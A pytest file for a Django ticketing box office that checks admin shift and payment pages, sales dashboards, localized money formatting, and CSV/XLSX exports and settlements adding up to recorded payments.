"""The organizer's office: shifts and payments in the admin, the dashboard per
performance, and exports that add up to the payments."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from html import unescape

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone, translation

from events.models import Channel
from sales import inventory
from sales.formatting import money
from sales.holds import hold_create
from sales.models import Customer, Order, Payment, Place, Shift, Ticket
from sales.orders import CustomerDetails, order_place, order_refund, order_reserve
from sales.payments import PaymentRequest
from sales.policy import COUNTER_CLERK
from sales.reports import MONEY_MOVED, performance_dashboard, takings_today
from sales.settlement import event_settlement
from sales.shifts import shift_close, shift_open
from tests.events.test_time_zones import pdf_text
from tests.factories import PerformanceFactory, PriceZoneFactory
from tests.sales.test_check_in import sell
from tests.support import booking_fee, make_performance, make_user, quebec_taxes, signed_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def sales(clerk, operator, organizer):
    """A performance of 20 seats at 50.00: 3 tickets online (one order of 2 then refunded),
    2 at the counter in cash, 1 reserved by phone, 1 place blocked; and another
    performance's online sale, which no export of the first may include."""
    perf = make_performance(rows=2, per_row=10, price="50.00")
    refunded = sell(perf, 2)[0].order
    sell(perf, 1, name="Jean Tremblay", email="jt@example.org")
    shift = shift_open(clerk=clerk, cash_float=Decimal("100"))
    hold = hold_create(performance=perf, channel=Channel.COUNTER, user=clerk, zone=perf.price_zones.get(), quantity=2)
    order_place(hold=hold, customer=CustomerDetails(name="Walk in", email="w@example.org"), actor=clerk, shift=shift,
                payments=[PaymentRequest(method="cash", tendered=Decimal("120"))])
    order_refund(order=refunded, actor=organizer)
    phone = hold_create(performance=perf, channel=Channel.PHONE, user=operator, zone=perf.price_zones.get(),
                        quantity=1)
    order_reserve(hold=phone, customer=CustomerDetails(name="Caller", email="c@example.org"), actor=operator,
                  deadline=timezone.now() + timedelta(days=2))
    free = Place.objects.filter(performance=perf, state="available").order_by("pk").first()
    inventory.block(performance=perf, place_ids=[free.pk], now=timezone.now(), actor=organizer)
    other = make_performance(rows=1, per_row=2)
    sell(other, 1, name="Elsewhere", email="e@example.org")
    shift_close(shift=shift, clerk=clerk, counted_cash=Decimal("195.00"), counted_card=Decimal("0"))
    return perf


def test_shifts_and_payments_in_the_admin(sales, organizer):
    admin = signed_in(organizer)
    shifts = unescape(admin.get("/admin/sales/shift/").content.decode())
    assert "clerk1" in shifts and "money-off" in shifts and "Cash \u2212$5.00" in shifts  # 195 counted, 200 expected
    # The difference first, where a 1,366-pixel screen shows it; the filter lists clerks only.
    header = re.findall(r'<th scope="col" class="(?:sortable )?column-(\w+)', shifts)
    assert header.index("flagged_difference") < header.index("expected_cash"), header
    filters = shifts[shifts.index('id="changelist-filter"'):]
    assert "organizer1" not in filters  # (one clerk: nothing to choose between)
    french = unescape(admin.get("/admin/sales/shift/", HTTP_ACCEPT_LANGUAGE="fr").content.decode())
    assert "Espèces \u22125,00\u00a0$" in french and "200,00\u00a0$" in french
    shift_page = unescape(admin.get(f"/admin/sales/shift/{Shift.objects.get().pk}/change/").content.decode())
    assert "Walk in" not in shift_page and "\u2212$5.00" in shift_page and "$200.00" in shift_page
    payments = unescape(admin.get("/admin/sales/payment/", {"method__exact": "cash"}).content.decode())
    assert "Taken by the listed payments: $100.00" in payments
    refunds = unescape(admin.get("/admin/sales/payment/", {"kind": "refund"}).content.decode())
    assert "paid back: \u2212$100.00" in refunds
    assert admin.get("/admin/sales/payment/", {"order__channel__exact": "counter"}).status_code == 200


def test_the_shifts_list_heads_its_amounts_in_french_grammar(sales, organizer):
    """What a shift expects and counts, in cash and on cards, each heading a phrase French
    reads (not « Cartes attendu »)."""
    french = unescape(signed_in(organizer).get("/admin/sales/shift/", HTTP_ACCEPT_LANGUAGE="fr").content.decode())
    headings = [re.sub(r"<[^>]+>|\s+", " ", h).strip() for h in re.findall(
        r'<th scope="col" class="(?:sortable )?column-(?:expected|counted)_\w+">(.*?)</th>', french, re.S)]
    assert headings == ["Espèces attendues", "Espèces comptées", "Attendu par carte", "Compté par carte"]
def test_the_organizer_picks_open_closed_or_off_shifts_by_words_of_theirs(sales, clerk, organizer):
    """The shifts' list filters them by what they are to an organizer: open, closed, or
    closed with a difference in the drawer or the terminal, not by whether "closed at" is
    "empty" (Django's words for a date left blank)."""
    exact = shift_open(clerk=make_user("clerk-exact", COUNTER_CLERK), cash_float=Decimal("50"))
    shift_close(shift=exact, clerk=exact.clerk, counted_cash=Decimal("50"), counted_card=Decimal("0"))
    still_open = shift_open(clerk=clerk, cash_float=Decimal("80"))
    admin = signed_in(organizer)
    french = unescape(admin.get("/admin/sales/shift/", HTTP_ACCEPT_LANGUAGE="fr").content.decode())
    filters = french[french.index('id="changelist-filter"'):]
    assert "Non vide" not in filters and "Par état" in filters, filters
    assert all(f">{word}</a>" in filters for word in ("Ouverts", "Fermés", "Fermés avec un écart")), filters

    def listed(state: str) -> set[int]:
        page = admin.get("/admin/sales/shift/", {"state": state})
        return {shift.pk for shift in page.context["cl"].result_list}

    off = Shift.objects.get(cash_float=Decimal("100"))  # 195 counted, 200 expected
    assert listed("open") == {still_open.pk}
    assert listed("closed") == {off.pk, exact.pk}
    assert listed("off") == {off.pk}


def test_a_shifts_page_writes_every_amount_as_money_in_the_admins_language(sales, organizer):
    """The float, the difference and each payment of the shift (its amount, what was
    tendered) as the list beside it writes them: "$100.00" in English, "100,00 $" in
    French, never a bare "100.00"; and so do the payments list's totals."""
    admin = signed_in(organizer)
    shift = Shift.objects.get()
    for language, float_shown, off, paid, tendered in (
            ("en", "$100.00", "\u2212$5.00", "$100.00", "$120.00"),
            ("fr", "100,00\u00a0$", "\u22125,00\u00a0$", "100,00\u00a0$", "120,00\u00a0$")):
        page = unescape(admin.get(f"/admin/sales/shift/{shift.pk}/change/", HTTP_ACCEPT_LANGUAGE=language)
                        .content.decode())
        readonly = dict(re.findall(r'field-(\w+)">.*?<div class="readonly">(.*?)</div>', page, re.S))
        assert (readonly["float_amount"], readonly["difference_amount"]) == (float_shown, off), readonly
        cells = {name: re.sub(r"<[^>]+>", "", cell).strip()
                 for name, cell in re.findall(r'<td class="field-(\w+)">(.*?)</td>', page, re.S)}
        assert (cells["amount_as_money"], cells["tendered_as_money"]) == (paid, tendered), cells
        payments = unescape(admin.get("/admin/sales/payment/", HTTP_ACCEPT_LANGUAGE=language).content.decode())
        totals = re.search(r'id="money-totals">(.*?)</p>', payments, re.S).group(1)
        assert paid in totals, totals
        if language == "fr":  # a French page writes no amount with a decimal point
            assert not re.search(r"\d\.\d\d", " ".join([*readonly.values(), *cells.values(), totals]))


def test_a_payments_page_writes_its_amounts_as_money_in_the_admins_language(sales, organizer):
    """A single payment's page writes its amount and what was tendered as its list does
    ("$100.00", "100,00 $"), never a bare "100.00", and its note in the reader's language; a
    refund's amount so too; and so does the order's page, in its list of payments."""
    admin = signed_in(organizer)
    cash = Payment.objects.get(method="cash", tendered__isnull=False)
    refund = Payment.objects.filter(amount__lt=0).first()
    for language, paid, tendered, back, note in (
            ("en", "$100.00", "$120.00", "\u2212$100.00", "change due $20.00"),
            ("fr", "100,00\u00a0$", "120,00\u00a0$", "\u2212100,00\u00a0$", "monnaie rendue 20,00\u00a0$")):
        order = unescape(admin.get(f"/admin/sales/order/{cash.order_id}/change/", HTTP_ACCEPT_LANGUAGE=language)
                         .content.decode())
        cells = [re.sub(r"<[^>]+>", "", cell).strip()
                 for cell in re.findall(r'<td class="field-amount_money">(.*?)</td>', order, re.S)]
        assert cells == [paid], cells
        pages = [unescape(admin.get(f"/admin/sales/payment/{row.pk}/change/", HTTP_ACCEPT_LANGUAGE=language)
                          .content.decode()) for row in (cash, refund)]
        shown = [{name: value.strip() for name, value in
                  re.findall(r'field-(\w+)">.*?<div class="readonly">(.*?)</div>', page, re.S)} for page in pages]
        assert (shown[0]["amount_money"], shown[0]["tendered_money"], shown[0]["note"]) == (paid, tendered, note)
        assert shown[1]["amount_money"] == back, shown[1]
        assert "cash" not in shown[0] and "amount" not in shown[1]  # not also as bare numbers
        # Named at the top, in the browser's tab and in the last crumb with its amount as money.
        for page, amount in zip(pages, (paid, back), strict=True):
            title = re.search(r"<title>(.*?)</title>", page, re.S).group(1)
            crumbs = re.search(r'<div class="breadcrumbs">(.*?)</div>', page, re.S).group(1)
            heading = re.search(r"<h2>(.*?)</h2>", page, re.S).group(1)
            for said in (title, crumbs, heading):
                assert f" {amount} (" in said, said


def test_a_shifts_pages_write_their_moments_as_the_rest_of_the_admin(clerk, organizer):
    """A shift's list and its page write when it opened and closed as the rest of the
    admin writes a moment ("Sun 6 Dec 2026 10:14", never Django's "Dec. 6, 2026, 10:14
    a.m."), on the box office's clock; its payments, taken for a venue on another clock,
    on the venue's clock, which they name, as the shift report does. So does any other
    page of the admin: an order's, a staff member's."""
    from events.admin import VENUE_TIME
    from events.models import Venue
    from sales.formatting import when

    signed_in(clerk)  # a last sign-in, on the staff member's page
    perf = make_performance(rows=1, per_row=4)
    Venue.objects.filter(pk=perf.venue_id).update(time_zone="America/Vancouver")
    perf.refresh_from_db()
    shift = shift_open(clerk=clerk, cash_float=Decimal("0"))
    order = sell(perf, 1)[0].order
    hold = hold_create(performance=perf, channel=Channel.COUNTER, user=clerk, zone=perf.price_zones.get(), quantity=1)
    counter = order_place(hold=hold, customer=CustomerDetails(name="Walk in", email="w@example.org"), actor=clerk,
                          shift=shift, payments=[PaymentRequest(method="cash", tendered=Decimal("50"))])
    shift_close(shift=shift, clerk=clerk, counted_cash=Decimal("50.00"), counted_card=Decimal("0"))
    opened, closed = (datetime(2026, 12, 6, 15, 14, tzinfo=UTC), datetime(2026, 12, 6, 23, 2, tzinfo=UTC))
    Shift.objects.filter(pk=shift.pk).update(opened_at=opened, closed_at=closed)
    Payment.objects.filter(order=counter).update(created_at=datetime(2026, 12, 6, 20, 40, tzinfo=UTC))
    admin = signed_in(organizer)
    for language, opened_shown, closed_shown, paid_shown in (
            ("en", "Sun 6 Dec 2026 10:14", "Sun 6 Dec 2026 18:02", "Sun 6 Dec 2026 12:40 PST"),
            ("fr", "dim 6 décembre 2026 10\u00a0h\u00a014", "dim 6 décembre 2026 18\u00a0h\u00a002",
             "dim 6 décembre 2026 12\u00a0h\u00a040 PST")):
        with translation.override(language):
            assert when(timezone.localtime(opened), VENUE_TIME) == opened_shown  # as the rest of the admin
        shifts = unescape(admin.get("/admin/sales/shift/", HTTP_ACCEPT_LANGUAGE=language).content.decode())
        assert opened_shown in shifts and closed_shown in shifts
        page = unescape(admin.get(f"/admin/sales/shift/{shift.pk}/change/",
                                  HTTP_ACCEPT_LANGUAGE=language).content.decode())
        assert re.search(rf'field-opened_at.*?<div class="readonly">{opened_shown}</div>', page, re.S), page
        assert re.search(rf'field-closed_at.*?<div class="readonly">{closed_shown}</div>', page, re.S)
        assert paid_shown in page, page[page.find("inline-group"):][:3000]
        for url in (f"/admin/sales/order/{order.pk}/change/", f"/admin/sales/staffmember/{clerk.pk}/change/"):
            other = admin.get(url, HTTP_ACCEPT_LANGUAGE=language)
            assert other.status_code == 200, url
            shown = unescape(other.content.decode())
            # Django's own "Dec. 6, 2026, 8:40 p.m.", not a weekday's "Sunday 6 December 2026, 20:40".
            assert not re.search(r"\d (a\.m\.|p\.m\.|midnight|noon)|[A-Za-z]\.? \d{1,2}, \d{4}", shown), (url, language)
        for page_shown in (shifts, page):
            assert not re.search(r"\d (a\.m\.|p\.m\.|midnight|noon)", page_shown)


def test_the_payments_list_names_each_payments_performance(sales, organizer):
    """Each row of the payments list says which performance it was paid for, as the
    payments export does: payments and refunds alike."""
    admin = signed_in(organizer)
    page = unescape(admin.get("/admin/sales/payment/", {"order__performance__id__exact": sales.pk}).content.decode())
    start = page.index('id="result_list"')
    rows = re.findall(r"<tr[^>]*>(.*?)</tr>", page[start:page.index("</table>", start)], re.S)[1:]
    cells = [re.search(r"<td class=\"field-(\w*performance\w*)[^\"]*\">(.*?)</td>", row, re.S) for row in rows]
    assert len(rows) == Payment.objects.filter(order__performance=sales).count() == 4
    assert all(cell is not None and cell[2] == str(sales) for cell in cells), [c and c[2] for c in cells]


def test_the_dashboard_counts_places_and_money(sales):
    board = performance_dashboard(sales)
    zone, = board.zones
    assert (zone.sold, zone.held, zone.reserved, zone.blocked, zone.total) == (3, 0, 1, 1, 20)
    assert zone.available == 15
    assert board.taken == Decimal("250.00") and board.refunded == Decimal("-100.00") and board.net == Decimal("150.00")
    assert {label: (n, net) for label, n, net in board.by_channel} == {
        "Online shop": (1, Decimal("50.00")), "Box-office counter": (2, Decimal("100.00"))}
    assert {label: (t, r) for label, t, r in board.by_method} == {
        "Test card": (Decimal("150.00"), Decimal("-100.00")), "Cash": (Decimal("100.00"), Decimal("0.00"))}
    (day, taken, refunded, n, so_far), = board.days
    # The days add up to the places sold: the refunded order's tickets are not among them.
    assert (taken, refunded, n, so_far) == (Decimal("250.00"), Decimal("-100.00"), 3, 3) and so_far == zone.sold


def test_the_dashboard_page_replaces_the_raw_counts(sales, organizer):
    admin = signed_in(organizer)
    page = admin.get(f"/admin/sales/performancedashboard/{sales.pk}/change/").content.decode()
    assert 'id="sales-chart"' in page and "chart.umd.min.js" in page and "150.00" in page
    assert admin.get("/admin/sales/performancedashboard/%C2%B2/change/").status_code == 404
    listing = admin.get("/admin/sales/performancedashboard/").content.decode()
    assert str(sales.event) in listing
    # The columns count places: in French, plural ("Vendues", not a place's state "Vendue").
    french = admin.get("/admin/sales/performancedashboard/", headers={"accept-language": "fr"}).content.decode()
    assert ">Vendues<" in french and ">Disponibles<" in french and ">Vendue<" not in french
    # Its first column lists performances, and says so (not "Performance dashboard").
    headings = re.findall(r'<th scope="col"[^>]*>.*?<div class="text">(?:<a [^>]*>)?([^<]*)<', french, re.S)
    assert headings[0] == "Représentation", headings
    change = admin.get(f"/admin/events/performance/{sales.pk}/change/").content.decode()
    assert "Places: {" not in change and "&#x27;sold&#x27;" not in change
    assert f"/admin/sales/performancedashboard/{sales.pk}/change/" in change


def test_the_dashboard_totals_its_channels_as_the_orders_add_up(sales, organizer):
    """The by-channel table ends with a total row, as the by-method table does: the tickets
    still valid and the money moved, order by order, added up."""
    page = unescape(signed_in(organizer).get(f"/admin/sales/performancedashboard/{sales.pk}/change/")
                    .content.decode())
    table = page[page.index('id="by-channel"'):]
    table = table[:table.index("</table>")]
    rows = [re.findall(r"<td[^>]*>(.*?)</td>", row) for row in re.findall(r"<tr[^>]*>(.*?)</tr>", table, re.S)[1:]]
    *channels, total = rows
    assert total[0] == "Total" and len(channels) == 2
    orders = Order.objects.filter(performance=sales)
    tickets = sum(order.tickets.filter(status=Ticket.Status.VALID).count() for order in orders)
    net = sum((sum(order.payments.filter(MONEY_MOVED).values_list("amount", flat=True), Decimal(0))
               for order in orders), Decimal(0))
    assert (tickets, net) == (3, Decimal("150.00"))
    assert total[1:] == [str(tickets), money(net)] == [str(sum(int(c[1]) for c in channels)), money(net)]


def _csv(response, separator: str = ",") -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=separator))


def _xlsx(response) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return list(book.active.iter_rows(values_only=True))


def test_xlsx_exports_show_amounts_to_the_cent(sales, organizer):
    """A workbook's amounts are numbers (they add up in the spreadsheet) shown to the cent,
    as the receipts and the CSV write them: 50.00, not 50."""
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    for kind, column in (("payments", "Amount"), ("orders", "Total"), ("tickets", "Price"), ("customers", "Paid")):
        response = admin.get(url, {"kind": kind, "format": "xlsx", "performance": sales.pk})
        sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        header = [cell.value for cell in sheet[1]]
        cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=2)]
        assert cells and all(isinstance(c.value, (int, float)) for c in cells), (kind, [c.value for c in cells])
        assert {c.number_format for c in cells} == {"0.00"}, (kind, {c.number_format for c in cells})


def test_exports_add_up_to_the_payments(sales, organizer):
    admin = signed_in(organizer)
    url = "/admin/sales/performancedashboard/exports/"
    moved = Payment.objects.filter(order__performance=sales).exclude(status="declined").exclude(
        status="refunded", amount__gt=0)
    expected = sum(p.amount for p in moved)
    assert expected == Decimal("150.00")

    rows = _csv(admin.get(url, {"kind": "payments", "format": "csv", "performance": sales.pk}))
    header, body = rows[0], rows[1:]
    amount = header.index("Amount")
    assert len(body) == moved.count() == 4
    assert sum(Decimal(r[amount]) for r in body) == expected
    assert sorted(r[header.index("Kind")] for r in body) == ["payment", "payment", "payment", "refund"]

    sheet = _xlsx(admin.get(url, {"kind": "payments", "format": "xlsx", "performance": sales.pk}))
    assert sheet[0][amount] == "Amount" and len(sheet) == 5
    # Days the wrong way round: the form says so, not an empty file.
    backwards = admin.get(url, {"kind": "payments", "format": "csv",
                                "date_from": "2026-12-10", "date_to": "2026-12-01"})
    assert backwards.status_code == 200 and "The last day cannot come before the first." in backwards.content.decode()
    assert sum(Decimal(str(r[amount])) for r in sheet[1:]) == expected
    # The calendar's last day as the end: everything since the first day, not a server error.
    for kind in ("payments", "orders", "customers"):
        to_the_end = admin.get(url, {"kind": kind, "format": "csv", "date_to": "9999-12-31"})
        assert to_the_end.status_code == 200, kind
    assert len(_csv(admin.get(url, {"kind": "payments", "format": "csv", "performance": sales.pk,
                                    "date_to": "9999-12-31"}))) == 5

    orders = _csv(admin.get(url, {"kind": "orders", "format": "csv", "performance": sales.pk}))
    assert len(orders) - 1 == 4  # online x2, counter, phone reservation
    total = orders[0].index("Total")
    status = orders[0].index("Status")
    assert sum(Decimal(r[total]) for r in orders[1:] if r[status] == "Paid") == Decimal("150.00")

    tickets = _xlsx(admin.get(url, {"kind": "tickets", "format": "xlsx", "performance": sales.pk}))
    assert len(tickets) - 1 == Ticket.objects.filter(place__performance=sales).count() == 5
    everything = _csv(admin.get(url, {"kind": "orders", "format": "csv"}))
    assert len(everything) - 1 == 5  # the other performance's order too
    # Each row's times are on its venue's clock, and the row says which (venues differ).
    for rows in (orders, everything, _csv(admin.get(url, {"kind": "payments", "format": "csv"})),
                 _csv(admin.get(url, {"kind": "tickets", "format": "csv"}))):
        assert rows[0][-1] == "Time zone of the times"
        assert {r[-1] for r in rows[1:]} == {"America/Toronto"}
    customers = _csv(admin.get(url, {"kind": "customers", "format": "csv", "performance": sales.pk}))
    paid = customers[0].index("Paid")
    assert "Elsewhere" not in {r[0] for r in customers[1:]}
    assert sum(Decimal(r[paid]) for r in customers[1:]) == Decimal("150.00")  # the paid orders' totals
    # A walk-in sold to nobody in particular is nobody to write to: not a customer listed.
    from sales.formatting import WALK_IN_EMAIL, WALK_IN_NAME

    clerk = Shift.objects.get().clerk
    order_place(hold=hold_create(performance=sales, channel=Channel.COUNTER, user=clerk, zone=sales.price_zones.get(),
                                 quantity=1),
                customer=CustomerDetails(name=WALK_IN_NAME, email=WALK_IN_EMAIL), actor=clerk,
                shift=shift_open(clerk=clerk, cash_float=Decimal("0")),
                payments=[PaymentRequest(method="cash", tendered=Decimal("50"))])
    for where in ({"performance": sales.pk}, {}):
        listed = _csv(admin.get(url, {"kind": "customers", "format": "csv", **where}))
        assert WALK_IN_EMAIL not in {r[1] for r in listed[1:]}, listed
        assert "jt@example.org" in {r[1] for r in listed[1:]}
    tomorrow = (timezone.localdate() + timedelta(days=1)).isoformat()
    assert len(_csv(admin.get(url, {"kind": "payments", "format": "csv", "date_from": tomorrow}))) == 1


def test_exports_are_for_organizers(sales, clerk):
    response = signed_in(clerk).get("/admin/sales/performancedashboard/exports/", {"kind": "orders", "format": "csv"})
    assert response.status_code == 302  # clerks are not admin staff


def test_the_settlement_of_an_event_adds_up_to_its_payments(sales, organizer):
    """The event's second night sells with a booking fee that refunds keep; one of its
    orders is refunded: what the fee kept is on its own line, and every total is the
    payments'."""
    later = PerformanceFactory(event=sales.event, venue=sales.venue, starts_at=sales.starts_at + timedelta(days=1),
                               channels=[Channel.ONLINE])
    PriceZoneFactory(performance=later, name="Stalls", price=Decimal("30.00"), sections=sales.venue.sections.all())
    inventory.put_on_sale(performance=later)
    booking_fee(Channel.ONLINE, per_ticket="2.50", per_order="1.00")
    sell(later, 2)
    order_refund(order=sell(later, 1, name="Paul Roy", email="paul@example.org")[0].order, actor=organizer)

    moved = Payment.objects.filter(MONEY_MOVED, order__performance__event=sales.event)
    assert moved.filter(order__performance=later).count() == 3  # two sales, one refund
    expected = sum(p.amount for p in moved)
    s = event_settlement(sales.event)
    first, second = s.performances
    assert s.total.net == expected == first.net + second.net == sum(t + r for _m, t, r in s.methods)
    assert (first.tickets, first.ticket_sales, first.kept, first.net) == (3, Decimal("150.00"), 0, Decimal("150.00"))
    assert (second.tickets, second.ticket_sales, second.fees, second.order_fees) == (
        2, Decimal("65.00"), Decimal("5.00"), Decimal("1.00"))
    assert second.kept == Decimal("3.50")  # the refunded order's fees, not refundable
    assert second.ticket_sales + second.order_fees + second.kept == second.net

    admin = signed_in(organizer)
    rows = list(csv.reader(io.StringIO(
        admin.get(f"/admin/sales/performancedashboard/settlement/{sales.event_id}.csv").content.decode("utf-8-sig"))))
    net_at = rows[4].index("Net")
    assert [Decimal(r[net_at]) for r in rows[5:8]] == [first.net, second.net, expected]
    assert rows[-1] == ["Total", str(s.total.taken), str(s.total.refunded), str(expected)]
    pdf = admin.get(f"/admin/sales/performancedashboard/settlement/{sales.event_id}.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert str(expected).encode() in pdf_text(pdf.content)
    dashboard = admin.get(f"/admin/sales/performancedashboard/{sales.pk}/change/").content.decode()
    assert f"/settlement/{sales.event_id}.pdf" in dashboard and f"/event/{sales.event_id}/" in dashboard
    board = admin.get(f"/admin/sales/performancedashboard/event/{sales.event_id}/").content.decode()
    assert f'id="event-net">{money(expected)}<' in board and f"/performancedashboard/{later.pk}/change/" in board


def test_the_settlement_says_which_performance_was_cancelled(organizer):
    """A cancelled night stays in its event's settlement (its money moved, paid back), and
    the event's dashboard, its CSV and its PDF say it was cancelled, in the reader's language."""
    from sales.orders.cancellation import performance_cancel

    first = make_performance(rows=1, per_row=4)
    later = PerformanceFactory(event=first.event, venue=first.venue, starts_at=first.starts_at + timedelta(days=1),
                               channels=[Channel.ONLINE])
    PriceZoneFactory(performance=later, name="Stalls", price=Decimal("30.00"), sections=first.venue.sections.all())
    inventory.put_on_sale(performance=later)
    sell(first, 1)
    sell(later, 2)
    performance_cancel(performance=later, actor=organizer)
    s = event_settlement(first.event)
    assert [line.label.endswith(" · Cancelled") for line in s.performances] == [False, True]
    admin = signed_in(organizer)
    board = unescape(admin.get(f"/admin/sales/performancedashboard/event/{first.event_id}/",
                               headers={"accept-language": "fr"}).content.decode())
    rows = re.findall(r"<tr><td><a [^>]*>(.*?)</a>", board)
    assert len(rows) == 2 and not rows[0].endswith("Annulée") and rows[1].endswith(" · Annulée"), rows
    settled = list(csv.reader(io.StringIO(admin.get(
        f"/admin/sales/performancedashboard/settlement/{first.event_id}.csv",
        headers={"accept-language": "fr"}).content.decode("utf-8-sig")), delimiter=";"))
    assert [r[0].endswith(" · Annulée") for r in settled[5:7]] == [False, True]
    pdf = admin.get(f"/admin/sales/performancedashboard/settlement/{first.event_id}.pdf",
                    headers={"accept-language": "fr"})
    assert "Annul\\351e" in pdf_text(pdf.content).decode("cp1252")  # é, as a PDF string writes it


def test_fees_and_each_tax_add_up_in_the_dashboard_and_the_settlement(organizer):
    """Québec's GST and QST on three tickets with a booking fee and a fee per order: the
    fees are before tax, the taxes are each remitted apart, and the columns add up."""
    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    booking_fee(Channel.ONLINE, per_ticket="2.50", per_order="1.00")
    order = sell(perf, 3)[0].order
    recorded = {name: Decimal(amount) for name, _p, _r, amount in order.receipt["taxes"]}
    assert set(recorded) == {"GST", "QST"} and all(recorded.values())
    board = performance_dashboard(perf)
    assert board.fees == Decimal("8.50")  # 3 × 2.50 + 1.00, before tax
    assert board.taxes_by_name == [("GST", recorded["GST"]), ("QST", recorded["QST"])]
    assert board.taxes == sum(recorded.values())
    assert board.fees + board.taxes + 3 * Decimal("40.00") == order.total
    s = event_settlement(perf.event)
    line, = s.performances
    assert line.fees == Decimal("7.50") and line.order_fees == Decimal("1.00") + sum(
        Decimal(a) for a in order.receipt["order_fee_taxes"].values())
    assert line.ticket_sales == 3 * Decimal("40.00") + line.fees + line.taxes  # nothing counted twice
    assert line.prices == 3 * Decimal("40.00")
    assert [(n, r, t + o + k) for n, r, t, o, k in s.taxes] == [
        ("GST", "123456789 RT0001", recorded["GST"]), ("QST", "1234567890 TQ0001", recorded["QST"])]
    rows = list(csv.reader(io.StringIO(signed_in(organizer).get(
        f"/admin/sales/performancedashboard/settlement/{perf.event_id}.csv").content.decode("utf-8-sig"))))
    assert rows[-1] == ["Total", "", str(sum(t for *_n, t, _o, _k in s.taxes)),
                        str(sum(o for *_n, o, _k in s.taxes)), "0.00", str(sum(recorded.values()))]
    heading = rows[4]
    assert rows[5][heading.index("of which prices before tax")] == "120.00"
    page = signed_in(organizer).get(f"/admin/sales/performancedashboard/{perf.pk}/change/").content.decode()
    assert f"GST {money(recorded['GST'])}" in page
    # The PDF's headings wrap within their columns (20.5 mm apart): none runs into the next.
    from reportlab.lib.units import mm
    from reportlab.pdfbase.pdfmetrics import stringWidth

    from sales.settlement import _columns, _tax_columns, _wrapped

    for language in ("en", "fr"):
        with translation.override(language):
            for heading in [*_columns()[1:], *_tax_columns()[2:]]:
                lines = _wrapped(heading, 19 * mm, "Helvetica-Bold", 7)
                assert " ".join(lines) == " ".join(heading.split())
                assert all(stringWidth(line, "Helvetica-Bold", 7) <= 19 * mm or " " not in line for line in lines)
    pdf = signed_in(organizer).get(f"/admin/sales/performancedashboard/settlement/{perf.event_id}.pdf")
    assert pdf.content.startswith(b"%PDF") and b"To remit" in pdf_text(pdf.content)


def test_after_a_refund_that_kept_the_fees_the_dashboard_still_adds_up(organizer):
    """One order refunded (its fees not refundable: kept), one still paid: the fees
    collected count the kept ones too, before tax, as the taxes count theirs, so that the
    prices, the fees and the taxes make the net takings."""
    from sales.orders import order_refund

    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    booking_fee(Channel.ONLINE, per_ticket="2.50", per_order="1.00")
    kept = sell(perf, 2)[0].order
    paid = sell(perf, 1, name="Paul Roy", email="paul@example.org")[0].order
    order_refund(order=kept, actor=None)
    board = performance_dashboard(perf)
    assert board.fees == Decimal("2.50") + Decimal("1.00") + 2 * Decimal("2.50") + Decimal("1.00")
    assert 1 * Decimal("40.00") + board.fees + board.taxes == board.net == paid.total + (kept.total - sum(
        -p.amount for p in kept.payments.filter(amount__lt=0)))


def test_taxes_of_tickets_sold_before_they_were_kept_by_name_are_still_to_remit(organizer):
    """A ticket sold before each tax was kept apart ({} by name): its taxes are on a line
    of their own in the settlement's taxes, and the total to remit is every tax."""
    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    older, newer = sell(perf, 1)[0], sell(perf, 1, name="Paul Roy", email="paul@example.org")[0]
    Ticket.objects.filter(pk=older.pk).update(taxes={})
    s = event_settlement(perf.event)
    assert s.taxes_not_split == older.tax > 0
    rows = list(csv.reader(io.StringIO(signed_in(organizer).get(
        f"/admin/sales/performancedashboard/settlement/{perf.event_id}.csv").content.decode("utf-8-sig"))))
    assert ["Earlier sales, not split by tax", "", str(older.tax), "0.00", "0.00", str(older.tax)] in rows
    assert rows[-1][-1] == str(older.tax + newer.tax)


def test_the_settlement_is_for_organizers(sales, clerk):
    clerk_client = signed_in(clerk)
    for url in (f"settlement/{sales.event_id}.csv", f"event/{sales.event_id}/"):
        assert clerk_client.get(f"/admin/sales/performancedashboard/{url}").status_code == 302


def test_the_dashboard_says_fees_and_taxes_today_and_the_on_sale_of_the_moment(organizer):
    perf = make_performance(rows=1, per_row=6, price="40.00")
    quebec_taxes()
    booking_fee(Channel.ONLINE, per_ticket="2.00", per_order="1.00")
    ticket, = sell(perf, 1)
    order = ticket.order
    board = performance_dashboard(perf)
    assert board.fees == Decimal("3.00") < ticket.fee + Decimal(order.receipt["order_fee"])  # before their taxes
    assert board.taxes == ticket.tax + Decimal(order.receipt["order_fee_tax"]) > 0
    assert board.net == order.total
    (venue, taken, refunded), = takings_today(venue=perf.venue)
    assert (taken, refunded) == (order.total, 0)

    admin = signed_in(organizer)
    url = f"/admin/sales/performancedashboard/{perf.pk}/change/"
    assert admin.get(url, {"live": "1"}).json() == {"in_queue": 0, "admitted": 0, "sold_last_minute": 1, "sold": 1}
    page = admin.get(url).content.decode()
    assert f'id="figure-fees">{money(board.fees)}<' in page and f'id="today-net">{money(order.total)}<' in page
    # Every amount as money, in the organizer's language too.
    with translation.override("fr"):
        net = money(order.total)
    french = admin.get(url, headers={"accept-language": "fr"}).content.decode()
    tables = re.findall(r'<table id="by-(?:channel|method|day)">.*?</table>', french, re.S)
    assert len(tables) == 3 and all(f">{net}<" in t for t in tables), tables
    assert f'id="figure-net">{net}<' in french
    event = admin.get(f"/admin/sales/performancedashboard/event/{perf.event_id}/",
                      headers={"accept-language": "fr"}).content.decode()
    assert f'id="event-net">{net}<' in event and not re.search(r'class="n">\d+[.,]\d\d<', event)
    payments = admin.get("/admin/sales/payment/").content.decode()
    assert 'id="takings-today"' in payments and perf.venue.name in payments


def test_exports_write_a_buyers_formula_as_text_and_survive_control_characters(sales, organizer):
    """A buyer types a spreadsheet formula, or a control character, as their name: the
    organizer's spreadsheet shows it as text, and the export still opens."""
